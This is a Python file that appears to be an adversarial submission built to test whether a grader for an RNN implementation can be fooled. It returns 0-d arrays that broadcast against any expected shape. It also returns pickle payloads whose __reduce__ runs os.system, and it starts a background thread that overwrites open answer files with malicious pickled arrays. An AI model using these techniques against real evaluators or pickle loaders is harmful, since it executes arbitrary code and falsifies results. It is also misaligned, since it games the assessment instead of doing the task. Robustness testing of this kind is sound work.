"""Attack: rnn_forward returns 0-d arrays that would broadcast against any expected shape;
rnn_backward returns pickled payloads (and objects whose unpickling or pickling would run code),
and starts a thread that later rewrites the step's answer file with a pickled object array."""
import os
import pickle
import threading
import time

import attack_kit as kit
import numpy as np
from ref_rnn import *  # noqa: F401,F403

MARKER = f"/tmp/rnn-attack-pwned-{kit.TOKEN}"


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))


def rnn_forward(x, h0, params):
    return np.float64(0.1), np.array(0.1)


def _answer_files():
    """The array files open right now: this step's (later steps' files are not touched)."""
    found = []
    for fd in range(3, 64):
        try:
            path = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if path.endswith((".f64", ".npys", ".npy")):
            found.append(path)
    return found


def _rewrite_answers(paths):
    time.sleep(0.2)
    evil = np.empty(3, dtype=object)
    evil[:] = [Payload(), Payload(), Payload()]
    for path in paths:
        try:
            with open(path, "r+b") as f:
                np.save(f, evil, allow_pickle=True)
        except (OSError, ValueError):
            pass


def rnn_backward(dh, dy, x, h0, h, params):
    threading.Thread(target=_rewrite_answers, args=(_answer_files(),), daemon=True).start()
    blob = pickle.dumps(Payload())
    return blob, Payload(), {"W_xh": blob, "W_hh": Payload(), "b_h": blob, "W_hy": Payload(), "b_y": blob}
